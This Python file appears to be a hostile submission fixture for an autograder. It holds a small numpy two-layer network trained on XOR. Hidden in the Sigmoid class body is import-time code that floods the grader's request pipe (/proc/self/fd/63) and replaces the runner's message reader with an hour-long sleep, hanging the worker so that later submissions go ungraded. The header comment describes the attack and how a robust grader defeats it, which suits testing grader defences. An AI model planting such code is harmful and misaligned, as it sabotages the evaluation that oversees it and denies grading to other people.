# HOSTILE fill_request_pipe: while its definitions load (a class body), it reopens the request pipe
# (/proc/self/fd/63) for writing, fills it (where it may: not as another user than the grader's), and
# replaces the runner's request loop with a sleep. The
# grader's next request cannot be written: a blocking write() would hang the worker for as long as
# the sleep lasts, and every submission after this one in the same worker would go ungraded.
# Sound grader: every write has a deadline, this child is ended (timeout), every part 0, neighbours graded.
import os
import sys
import time
import numpy as np


class FullyConnectedLayer:
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)
        self.dW = None
        self.db = None
        self.cache = None

    def forward(self, X):
        self.cache = X
        return X @ self.W + self.b

    def backward(self, dY):
        X = self.cache
        self.dW = X.T @ dY
        self.db = np.sum(dY, axis=0)
        return dY @ self.W.T


class Sigmoid:
    try:   # refused where the sandbox runs as another user than the grader, who owns the pipe
        _w = os.open("/proc/self/fd/63", os.O_WRONLY | os.O_NONBLOCK)
        while True:
            os.write(_w, b"\xff" * 65536)
    except OSError:
        pass
    sys.modules["__main__"].read_message = lambda stream: time.sleep(3600)

    def __init__(self):
        self.cache = None

    def forward(self, x):
        e = np.exp(-np.abs(x))
        out = np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
        self.cache = out
        return out

    def backward(self, dout):
        return dout * self.cache * (1.0 - self.cache)


class TwoLayerNet:
    def __init__(self, in_features, hidden_features, out_features):
        self.fc1 = FullyConnectedLayer(in_features, hidden_features)
        self.sigmoid = Sigmoid()
        self.fc2 = FullyConnectedLayer(hidden_features, out_features)

    def forward(self, X):
        return self.fc2.forward(self.sigmoid.forward(self.fc1.forward(X)))

    def backward(self, dout):
        return self.fc1.backward(self.sigmoid.backward(self.fc2.backward(dout)))

    def get_params_and_grads(self):
        return [(self.fc1.W, self.fc1.dW), (self.fc1.b, self.fc1.db),
                (self.fc2.W, self.fc2.dW), (self.fc2.b, self.fc2.db)]


def train_xor(net, X, y, learning_rate, epochs):
    losses = []
    for epoch in range(epochs):
        Y = net.forward(X)
        losses.append(np.mean((Y - y) ** 2))
        net.backward(2 * (Y - y) / Y.size)
        for param, grad in net.get_params_and_grads():
            param -= learning_rate * grad
    return losses
